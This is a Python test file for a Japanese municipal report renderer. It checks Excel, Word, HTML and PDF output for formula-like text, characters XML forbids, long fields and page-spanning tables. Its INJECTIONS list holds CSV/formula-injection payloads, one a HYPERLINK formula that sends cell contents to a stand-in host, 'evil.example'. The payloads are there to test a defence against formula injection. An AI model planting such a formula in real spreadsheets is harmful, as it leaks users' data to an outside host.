"""Stored text never breaks a document: formula-like text stays text in Excel, characters XML forbids are
dropped in every format, long titles and fields, and a policy with more projects than a page holds."""

from __future__ import annotations

import copy
import subprocess
import zipfile
from collections.abc import Callable, Iterator
from html.parser import HTMLParser
from io import BytesIO
from pathlib import Path
from typing import Any

import docx
import openpyxl
import pytest

from shinchoku.documents.render import FORMATS, render_document
from shinchoku.interchange.document import Document
from tests.documents.conftest import squeeze

INJECTIONS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "\t=2+2",
    "+1",
    "@SUM(A1)",
    "-2+3",
    "\r=1+1",
]
FORBIDDEN = "\x00\x01\x08\x0b\x0c\x1f\ufffe\uffff\ud800"


def _rewrite(document: Document, text: Callable[[int], str]) -> Document:
    """Every kind of stored text of ``document`` replaced by ``text(i)`` (i counts the fields), with the
    names that refer to each other (pillars, policies) renamed consistently."""
    doc: Any = copy.deepcopy(document)
    counter = iter(range(10**6))

    def t() -> str:
        return text(next(counter))

    doc["municipality"] = t()
    doc["plan"]["name"] = t()
    doc["report"]["title"] = t()
    for section in doc["report"]["narrative"]:
        section["heading"] = t()
        section["paragraphs"] = [t(), t()]
    for grade in doc["grade_scale"]:
        grade["description"] = t()
    pillars = {p["name"]: t() for p in doc["pillars"]}
    policies = {name: t() for p in doc["pillars"] for name in p["policies"]}
    for pillar in doc["pillars"]:
        pillar["name"] = pillars[pillar["name"]]
        pillar["policies"] = [policies[name] for name in pillar["policies"]]
    for project in doc["projects"]:
        project["name"] = t()
        project["pillar"] = pillars[project["pillar"]]
        project["policy"] = policies[project["policy"]] if project["policy"] else None
        project["departments"] = [t()]
        project["overview"], project["vision"] = t(), t()
        if project["comprehensive_plan"]:
            project["comprehensive_plan"] = {"area": t(), "policy": t()}
        for row in project["schedule"]:
            row["cells"] = {year: t() for year in row["cells"]}
        for indicator in project["indicators"]:
            indicator["name"], indicator["unit"], indicator["note"] = t(), t()[:20], t()
        for table in project["result_tables"]:
            for row in table["rows"]:
                row["label"], row["unit"] = t(), t()[:20]
        for key in ("results", "challenges", "next_year", "non_b_summary"):
            project[key] = [t() for _ in project[key]] or [t()]
    for item in doc["under_consideration"]:
        item["pillar"] = pillars[item["pillar"]]
        item["policy"] = policies[item["policy"]] if item["policy"] else None
        item["title"], item["text"] = t(), [t()]
    return doc  # type: ignore[no-any-return]


def _cells(data: bytes) -> Iterator[Any]:
    book = openpyxl.load_workbook(BytesIO(data))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            yield from row


def test_it_writes_formula_like_text_into_excel_as_text(seed_document: Document) -> None:
    document = _rewrite(seed_document, lambda i: f"{INJECTIONS[i % len(INJECTIONS)]} {i}")
    data, _, _ = render_document(document, "xlsx", draft=True)
    cells = list(_cells(data))
    formulas = [(c.coordinate, c.value) for c in cells if c.data_type == "f"]
    assert formulas == []  # the workbook has no formulas of its own
    with zipfile.ZipFile(BytesIO(data)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
        assert sheets and not any(b"<f>" in archive.read(n) or b"<f " in archive.read(n) for n in sheets)
    texts = [c for c in cells if isinstance(c.value, str)]
    for payload in INJECTIONS[:4]:
        written = [c for c in texts if c.value.startswith(payload.replace("\r", ""))]
        assert written, payload
        assert all(c.data_type == "s" for c in written)
        assert all(c.quotePrefix for c in written if c.value[0] in "=+-@\t")  # stays text when edited
    projects = openpyxl.load_workbook(BytesIO(data))["個別事業計画"]
    names = [row[3] for row in projects.iter_rows(min_row=2, values_only=True)]
    assert names == [p["name"] for p in document["projects"]]


def test_it_cuts_a_cell_to_what_excel_keeps(seed_document: Document) -> None:
    seed_document["projects"][0]["results"] = ["長" * 40_000]
    data, _, _ = render_document(seed_document, "xlsx", draft=False)
    longest = max(len(c.value) for c in _cells(data) if isinstance(c.value, str))
    assert longest == 32_767


class _Text(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.parts: list[str] = []

    def handle_data(self, data: str) -> None:
        self.parts.append(data)


def test_it_renders_every_format_when_text_holds_characters_xml_forbids(
    seed_document: Document, tmp_path: Path
) -> None:
    document = _rewrite(seed_document, lambda i: f"項目{i}{FORBIDDEN[i % len(FORBIDDEN)]}終")
    document["report"]["title"] = "長い表題" * 80 + FORBIDDEN  # 320 characters: over Word's 255
    charted = next(
        i for p in document["projects"] for i in p["indicators"] if len(i["targets"]) + len(i["actuals"]) >= 2
    )
    charted["name"] = "指標\ufffe名"  # in a chart, through Pillow's text layout (raqm) for Word
    out: dict[str, bytes] = {fmt: render_document(document, fmt, draft=True)[0] for fmt in FORMATS}

    word = docx.Document(BytesIO(out["docx"]))
    assert len(word.core_properties.title) == 255
    xml = word.element.xml
    assert "項目0終" in xml and "指標名" in xml
    assert not any(ch in xml for ch in FORBIDDEN)
    assert word.inline_shapes  # the charts are there

    book = openpyxl.load_workbook(BytesIO(out["xlsx"]))
    values = [str(c.value) for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value]
    assert any("指標名" in v for v in values)
    assert not any(ch in v for v in values for ch in FORBIDDEN)

    page = _Text()
    page.feed(out["html"].decode("utf-8"))
    text = "".join(page.parts)
    assert "指標名" in text and not any(ch in text for ch in FORBIDDEN)

    pdf = tmp_path / "forbidden.pdf"
    pdf.write_bytes(out["pdf"])
    flat = squeeze(subprocess.run(["pdftotext", str(pdf), "-"], check=True, capture_output=True,
                                  text=True).stdout)  # fmt: skip
    assert "指標名" in flat and "項目0終" in flat


def _one_policy(document: Document, count: int) -> Document:
    template = next(p for p in document["projects"] if p["policy"])
    twins = []
    for k in range(1, count + 1):
        twin = copy.deepcopy(template)
        twin["name"] = f"分割確認用の事業{k:02d}"
        twins.append(twin)
    document["projects"] = twins + [p for p in document["projects"] if p["pillar"] != template["pillar"]]
    return document


def test_it_lays_out_sixty_projects_under_one_policy(seed_document: Document, tmp_path: Path) -> None:
    document = _one_policy(seed_document, 60)
    policy = document["projects"][0]["policy"]
    path = tmp_path / "policy.pdf"
    path.write_bytes(render_document(document, "pdf", draft=False)[0])
    pages = subprocess.run(["pdftotext", "-layout", str(path), "-"], check=True, capture_output=True,
                           text=True).stdout.split("\f")  # fmt: skip
    section2 = [p for p in pages if "分割確認用の事業" in p and "進捗状況" in p and "担当部署" not in p]
    assert len(section2) >= 2  # the table runs over a page
    flat = squeeze("".join(section2))
    assert all(f"分割確認用の事業{k:02d}" in flat for k in range(1, 61))
    # The policy cell is printed again at the top of the continued table.
    assert squeeze(f"{policy}（続き）") in squeeze(section2[1])
    for fmt in ("docx", "html", "xlsx"):
        assert render_document(document, fmt, draft=False)[0]


def test_it_prints_every_line_of_a_long_field_in_order(seed_document: Document, tmp_path: Path) -> None:
    project = seed_document["projects"][0]
    project["results"] = ["\n".join(f"成果の行{i:04d}。" for i in range(500))]
    project["challenges"] = ["\n".join(f"課題の行{i:04d}。" for i in range(300))]
    path = tmp_path / "long.pdf"
    path.write_bytes(render_document(seed_document, "pdf", draft=False)[0])
    # The value column only (the label column and the page numbers would interleave).
    column = squeeze(subprocess.run(["pdftotext", "-x", "150", "-y", "40", "-W", "450", "-H", "760", str(path),
                                     "-"], check=True, capture_output=True, text=True).stdout)  # fmt: skip
    positions = [column.find(f"成果の行{i:04d}。") for i in range(500)]
    assert -1 not in positions and positions == sorted(positions)
    challenges = [column.find(f"課題の行{i:04d}。") for i in range(300)]
    assert -1 not in challenges and challenges == sorted(challenges) and challenges[0] > positions[-1]


@pytest.mark.parametrize("draft", [False, True])
def test_it_draws_the_same_pdf_bytes_every_time(seed_document: Document, draft: bool) -> None:
    first = render_document(copy.deepcopy(seed_document), "pdf", draft=draft)[0]
    second = render_document(copy.deepcopy(seed_document), "pdf", draft=draft)[0]
    assert first == second
    assert b"/CreationDate (D:20000101000000+00'00')" in first  # ReportLab's invariant date, not now
